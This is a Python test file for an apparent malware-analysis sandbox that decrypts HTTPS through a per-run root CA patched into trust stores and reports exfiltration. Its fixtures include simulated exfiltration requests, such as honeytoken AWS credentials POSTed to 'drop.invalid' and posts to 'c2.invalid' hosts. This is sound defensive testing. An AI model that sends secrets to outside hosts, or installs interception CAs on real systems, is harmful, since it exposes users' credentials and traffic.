"""TLS termination by the sinkhole: the per-run CA (sandbox/agent/tlsca.py), the
trust stores (sandbox/agent/trust.py), the daemon serving HTTPS on loopback, and the
report built from what it decrypted.

Real clients (Python's ``ssl`` over OpenSSL, strict verification) are the judges of
the certificates; nothing leaves loopback.
"""

from __future__ import annotations

import base64
import json
import os
import random
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.agent import sinkhole as sk
from sandbox.agent import tlsca, trust
from sandbox.judge.honeytokens import make_honeytokens
from sandbox.judge.rules import evaluate_network
from sandbox.models import Phase
from sandbox.trace.netcapture import network_capture

# ---------------------------------------------------------------------- the CA


def test_p256_arithmetic_and_signatures() -> None:
    assert tlsca.on_curve(tlsca.G)
    assert tlsca.scalar_mult(tlsca.N) is None  # G has order N
    assert tlsca.scalar_mult(2) == tlsca.scalar_mult(1, tlsca.scalar_mult(2) or tlsca.G)
    key = tlsca.EcKey.generate()
    assert tlsca.on_curve(key.pub)
    sig = key.sign(b"message")
    # DER SEQUENCE { INTEGER r, INTEGER s }
    r_len = sig[3]
    r = int.from_bytes(sig[4 : 4 + r_len], "big")
    s = int.from_bytes(sig[4 + r_len + 2 :], "big")
    assert tlsca.verify(key.pub, b"message", r, s)
    assert not tlsca.verify(key.pub, b"messagE", r, s)


def _handshake(ctx: ssl.SSLContext, client: ssl.SSLContext, host: str) -> tuple[str, str | None]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    got: dict[str, Any] = {}

    def serve() -> None:
        conn, _ = srv.accept()
        try:
            with ctx.wrap_socket(conn, server_side=True) as s:
                got["data"] = s.recv(100)
                got["alpn"] = s.selected_alpn_protocol()
        except (ssl.SSLError, OSError) as exc:
            got["error"] = exc

    th = threading.Thread(target=serve, daemon=True)
    th.start()
    try:
        with client.wrap_socket(
            socket.create_connection(srv.getsockname(), timeout=5), server_hostname=host
        ) as c:
            c.sendall(b"ping")
            version = c.version() or ""
        th.join(5)
    finally:
        srv.close()
    assert got.get("data") == b"ping", got
    return version, got.get("alpn")


@pytest.mark.parametrize("host", ["api.c2.invalid", "203.0.113.7", "2001:db8::5"])
def test_leaves_verify_strictly_under_the_run_ca(tmp_path: Path, host: str) -> None:
    auth = tlsca.Authority(tmp_path / "tls")
    client = ssl.create_default_context(cadata=auth.ca_pem)
    client.verify_flags |= ssl.VERIFY_X509_STRICT
    client.set_alpn_protocols(["h2", "http/1.1"])
    version, alpn = _handshake(auth.context(host), client, host)
    assert version in ("TLSv1.2", "TLSv1.3") and alpn == "http/1.1"  # h2 offered, 1.1 chosen
    assert oct((tmp_path / "tls").stat().st_mode)[-3:] == "700"
    assert oct((tmp_path / "tls" / "leaf.key").stat().st_mode)[-3:] == "600"
    assert [p.name for p in (tmp_path / "tls").iterdir()] == ["leaf.key"]  # no CA key on disk
    # a name it was not issued for fails, as with any real certificate
    with pytest.raises(ssl.SSLCertVerificationError):
        _handshake(auth.context(host), client, "other.invalid")


def test_leaves_stay_valid_under_the_time_pass_clock(tmp_path: Path) -> None:
    """The time pass moves the candidate's clock up to 180 days ahead; a leaf that
    expired by then made every HTTPS client of that pass refuse the sinkhole."""
    auth = tlsca.Authority(tmp_path / "tls")
    pem = tmp_path / "leaf.pem"
    pem.write_text(auth.leaf_pem("api.c2.invalid"))
    info = ssl._ssl._test_decode_cert(str(pem))  # type: ignore[attr-defined]
    not_before = ssl.cert_time_to_seconds(info["notBefore"])
    not_after = ssl.cert_time_to_seconds(info["notAfter"])
    assert not_before < time.time() - 3600
    assert not_after > time.time() + 181 * 86400
    assert not_after - not_before <= 398 * 86400  # no longer than a public CA may issue


def test_each_run_has_its_own_ca_and_a_bounded_leaf_budget(tmp_path: Path) -> None:
    a, b = tlsca.Authority(tmp_path / "a", max_leaves=2), tlsca.Authority(tmp_path / "b")
    assert a.ca_pem != b.ca_pem
    a.context("one.invalid")
    a.context("ONE.invalid.")  # the same name: cached
    a.context("two.invalid")
    with pytest.raises(tlsca.LeafBudget):
        a.context("three.invalid")
    client = ssl.create_default_context(cadata=b.ca_pem)
    with pytest.raises(ssl.SSLCertVerificationError):
        _handshake(a.context("one.invalid"), client, "one.invalid")


def test_ca_is_shaped_like_a_corporate_root_and_hash_link_matches_openssl(tmp_path: Path) -> None:
    auth = tlsca.Authority(tmp_path / "tls")
    pem = tmp_path / "ca.pem"
    pem.write_text(auth.ca_pem)
    text = subprocess.run(
        ["openssl", "x509", "-in", str(pem), "-noout", "-text", "-hash"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "CA:TRUE" in text and "Certificate Sign" in text and "TLS Inspection Root CA" in text
    got = subprocess.run(
        ["openssl", "x509", "-in", str(pem), "-noout", "-hash"], capture_output=True, text=True, check=True
    ).stdout.strip()
    assert got == trust.subject_hash(auth.name)


# ---------------------------------------------------------------------- trust stores


def test_bundles_are_patched_in_place_without_following_symlinks(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    certifi = site / "certifi"
    vendored = site / "pip" / "_vendor" / "certifi"
    public_root = tlsca.Authority(tmp_path / "other").ca_pem  # stands for the bundle's public roots
    for d in (certifi, vendored):
        d.mkdir(parents=True)
        (d / "cacert.pem").write_text(public_root)
    os.chown(certifi / "cacert.pem", 1000, 1000)
    (certifi / "cacert.pem").chmod(0o444)
    # a hostile package: its "bundle" is a symlink to a file it must not reach
    victim = tmp_path / "victim"
    victim.write_text("-----BEGIN CERTIFICATE-----\nroot's\n")
    (site / "evil").mkdir()
    (site / "evil" / "cacert.pem").symlink_to(victim)
    (site / "linked").symlink_to(certifi)  # and a symlinked package directory
    auth = tlsca.Authority(tmp_path / "tls")
    patched, problems = trust.patch_bundles([site], auth.ca_pem)
    assert sorted(patched) == sorted([str(certifi / "cacert.pem"), str(vendored / "cacert.pem")])
    assert not problems and "root's" in victim.read_text() and auth.ca_pem not in victim.read_text()
    st = (certifi / "cacert.pem").stat()
    assert (st.st_uid, st.st_gid, oct(st.st_mode)[-3:]) == (1000, 1000, "444")
    assert (certifi / "cacert.pem").read_text().endswith(auth.ca_pem)
    assert trust.patch_bundles([site], auth.ca_pem)[0] == []  # idempotent
    # a symlink on the way to a bundle is refused, not followed
    with pytest.raises(OSError):
        trust.append_ca(site / "linked" / "cacert.pem", auth.ca_pem)
    client = ssl.create_default_context(cafile=str(certifi / "cacert.pem"))
    _handshake(auth.context("pypi.invalid"), client, "pypi.invalid")


def test_system_store_and_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    certs, local = tmp_path / "etc-ssl-certs", tmp_path / "local-share"
    certs.mkdir()
    public_root = tlsca.Authority(tmp_path / "other").ca_pem
    (certs / "ca-certificates.crt").write_text(public_root)
    monkeypatch.setattr(trust, "SYSTEM_DIR", certs)
    monkeypatch.setattr(trust, "SYSTEM_BUNDLE", certs / "ca-certificates.crt")
    monkeypatch.setattr(trust, "LOCAL_DIR", local)
    state_file = tmp_path / "state" / "trust.json"
    assert trust.wait_state(0.05, state_file)["error"].startswith("no CA")
    auth = tlsca.Authority(tmp_path / "tls")
    monkeypatch.setattr(trust, "STATE", state_file)
    trust.publish(auth)
    state = trust.wait_state(1.0, state_file)
    assert trust.load_state(state_file) == state and state["ca_pem"] == auth.ca_pem
    assert oct(state_file.stat().st_mode)[-3:] == "600"
    for _ in range(2):  # idempotent
        assert trust.install_system(state["ca_pem"], state["stem"], state["hash"]) == []
    bundle = (certs / "ca-certificates.crt").read_text()
    assert bundle.count(auth.ca_pem) == 1 and bundle.startswith(public_root)
    assert (local / f"{auth.file_stem}.crt").read_text() == auth.ca_pem
    assert os.readlink(certs / f"{state['hash']}.0") == f"{auth.file_stem}.pem"
    assert not (certs / f"{state['hash']}.1").exists()
    # the capath lookup OpenSSL does by subject hash finds it
    client = ssl.create_default_context(capath=str(certs))
    _handshake(auth.context("hashed.invalid"), client, "hashed.invalid")


def test_environment_names_the_bundles() -> None:
    assert trust.env_vars(None) == {}
    env = trust.env_vars({"ca_pem": "x", "stem": "acme-corp-root-ca"})
    assert (
        env["SSL_CERT_FILE"] == env["REQUESTS_CA_BUNDLE"] == env["CURL_CA_BUNDLE"] == str(trust.SYSTEM_BUNDLE)
    )
    assert env["NODE_EXTRA_CA_CERTS"].endswith("/acme-corp-root-ca.crt")


# ---------------------------------------------------------------------- the daemon


class Running:
    def __init__(self, tmp: Path) -> None:
        self.out = tmp
        phase = tmp / "phase"
        phase.write_text("import")
        self.auth = tlsca.Authority(tmp / "tls")
        self.ports, socks = sk.bind_listeners(False)
        limits = sk.Limits(capture_bytes=8192, idle_seconds=1.5, flow_seconds=4.0)
        self.daemon = sk.Daemon(socks, limits, sk.NetConfig(), tmp, phase_file=phase, authority=self.auth)
        self.thread = threading.Thread(target=self.daemon.run, kwargs={"signals": False}, daemon=True)
        self.thread.start()

    def stop(self) -> list[dict[str, Any]]:
        self.daemon.request_stop()
        self.thread.join(10)
        assert not self.thread.is_alive()
        return [json.loads(line) for line in (self.out / "net.jsonl").read_text().splitlines()]

    def tls(self, ctx: ssl.SSLContext, host: str | None) -> ssl.SSLSocket:
        raw = socket.create_connection(("127.0.0.1", self.ports.tcp), timeout=5)
        return ctx.wrap_socket(raw, server_hostname=host)


@pytest.fixture()
def running(tmp_path: Path) -> Iterator[Running]:
    r = Running(tmp_path)
    yield r
    if r.thread.is_alive():
        r.daemon.request_stop()
        r.thread.join(10)


def test_https_is_decrypted_parsed_and_answered(running: Running) -> None:
    trusting = ssl.create_default_context(cadata=running.auth.ca_pem)
    trusting.set_alpn_protocols(["h2", "http/1.1"])
    body = b"secret=" + base64.b64encode(os.urandom(24))
    with running.tls(trusting, "hooks.c2.invalid") as s:
        assert s.selected_alpn_protocol() == "http/1.1"
        s.sendall(
            b"POST /api/webhooks/1 HTTP/1.1\r\nHost: hooks.c2.invalid\r\nContent-Length: %d\r\n\r\n"
            % len(body)
            + body
        )
        assert s.recv(200).startswith(b"HTTP/1.1 200 OK")
        s.sendall(b"GET /again HTTP/1.1\r\nHost: hooks.c2.invalid\r\n\r\n")  # keep-alive
        assert s.recv(200).startswith(b"HTTP/1.1 200 OK")
    # no SNI (an address): the leaf is issued for the destination address
    with running.tls(trusting, "127.0.0.1") as s:
        s.sendall(b"GET /ip HTTP/1.0\r\n\r\n")
        assert s.recv(200).startswith(b"HTTP/1.1 200 OK")
    # a client with its own trust (pinning, certifi without our CA) refuses: SNI stays
    with pytest.raises(ssl.SSLCertVerificationError):
        running.tls(
            ssl.create_default_context(cadata=tlsca.Authority(running.out / "x").ca_pem), "pin.invalid"
        )
    time.sleep(0.3)
    every = running.stop()
    recs = [r for r in every if r["kind"] == "tcp"]
    assert every[-1]["tls_terminated"] == 2 and every[-1]["tls_refused"] == 1 and every[-1]["errors"] == 0
    hook = next(r for r in recs if (r.get("tls") or {}).get("sni") == "hooks.c2.invalid")
    assert hook["proto"] == "https" and hook["tls"]["intercepted"]
    assert hook["tls"]["negotiated"]["alpn"] == "http/1.1" and hook["tls"]["alpn"] == ["h2", "http/1.1"]
    assert [r["target"] for r in hook["http"]] == ["/api/webhooks/1", "/again"]
    assert base64.b64decode(hook["http"][0]["body_b64"]) == body
    plain = (running.out / hook["plain_payload"]).read_bytes()
    assert plain.startswith(b"POST /api/webhooks/1 HTTP/1.1") and body in plain
    assert hook["decrypted"] == len(plain) and body not in (running.out / hook["payload"]).read_bytes()
    ip = next(r for r in recs if r.get("http") and r["http"][0]["target"] == "/ip")
    assert ip["tls"]["sni"] is None and ip["proto"] == "https"
    pinned = next(r for r in recs if (r.get("tls") or {}).get("sni") == "pin.invalid")
    assert pinned["proto"] == "tls" and not pinned["tls"].get("intercepted") and "http" not in pinned
    assert "UNKNOWN_CA" in pinned["tls"]["handshake_error"] or "ALERT" in pinned["tls"]["handshake_error"]


def test_tls_inside_a_connect_tunnel_is_decrypted_too(running: Running) -> None:
    trusting = ssl.create_default_context(cadata=running.auth.ca_pem)
    raw = socket.create_connection(("127.0.0.1", running.ports.tcp), timeout=5)
    raw.sendall(b"CONNECT api.c2.invalid:443 HTTP/1.1\r\nHost: api.c2.invalid:443\r\n\r\n")
    assert raw.recv(100).startswith(b"HTTP/1.1 200")
    with trusting.wrap_socket(raw, server_hostname="api.c2.invalid") as s:
        s.sendall(b"GET /inside HTTP/1.1\r\nHost: api.c2.invalid\r\n\r\n")
        assert s.recv(200).startswith(b"HTTP/1.1 200 OK")
    time.sleep(0.3)
    recs = [r for r in running.stop() if r["kind"] == "tcp"]
    rec = next(r for r in recs if r.get("http"))
    assert [(h["method"], h["target"]) for h in rec["http"]] == [
        ("CONNECT", "api.c2.invalid:443"),
        ("GET", "/inside"),
    ]
    assert rec["proto"] == "https" and rec["tls"]["sni"] == "api.c2.invalid"


def test_decrypted_https_proves_exfiltration_in_the_report(tmp_path: Path) -> None:
    tokens = make_honeytokens(random.Random(3))
    aws = tokens.files[".aws/credentials"].encode()
    body = base64.b64encode(aws)
    stream = b"POST /collect HTTP/1.1\r\nHost: drop.invalid\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    t0 = 1_800_000_000.0
    rec = {
        "kind": "tcp",
        "id": 1,
        "t": t0,
        "phase": "import",
        "transport": "tcp",
        "src": "192.168.1.9:40000",
        "dst": "198.18.4.4:443",
        "name": "drop.invalid",
        "bytes": 900,
        "captured": 900,
        "truncated": False,
        "close_reason": "eof",
        "proto": "https",
        "pid": 42,
        "argv": ["python"],
        "tls": {
            "sni": "drop.invalid",
            "alpn": ["http/1.1"],
            "version": "TLS 1.3",
            "intercepted": True,
            "negotiated": {"version": "TLSv1.3", "alpn": "http/1.1", "cipher": "TLS_AES_256_GCM_SHA384"},
        },
        "http": [
            {
                "method": "POST",
                "target": "/collect",
                "version": "HTTP/1.1",
                "headers": [["Host", "drop.invalid"]],
                "complete": True,
                "body_bytes": len(body),
                "body_b64": base64.b64encode(body).decode(),
                "body_truncated": False,
            }
        ],
        "payload": "net-tcp-1.bin",
        "plain_payload": "net-tcp-1.plain.bin",
        "decrypted": len(stream),
    }
    (tmp_path / "sinkhole.json").write_text(json.dumps({"enabled": True}))
    (tmp_path / "net.jsonl").write_text(json.dumps(rec) + "\n")
    (tmp_path / "net-tcp-1.bin").write_bytes(os.urandom(900))  # ciphertext
    (tmp_path / "net-tcp-1.plain.bin").write_bytes(stream)
    net = network_capture(tmp_path, [], [], {Phase.IMPORT: (t0 - 1, t0 + 5)}, tokens)
    conn = net.connections[0]
    assert conn.protocol == "https" and conn.tls is not None and conn.tls.intercepted
    assert conn.tls.negotiated_alpn == "http/1.1" and conn.decrypted == len(stream)
    assert conn.plain.startswith("POST /collect HTTP/1.1")
    xs = [x for x in net.exfiltration if x.location == "~/.aws/credentials"]
    assert {x.canary for x in xs} == {"aws_access_key_id", "aws_secret_access_key"}
    assert all(x.channel == "https" and x.request == "POST /collect HTTP/1.1" for x in xs)
    finding = next(f for f in evaluate_network(net, None, "") if f.rule_id == "PS010")
    assert "via https" in finding.message
    assert all(
        "POST /collect HTTP/1.1" in e.detail and e.syscall == "(sinkhole https)" for e in finding.evidence
    )
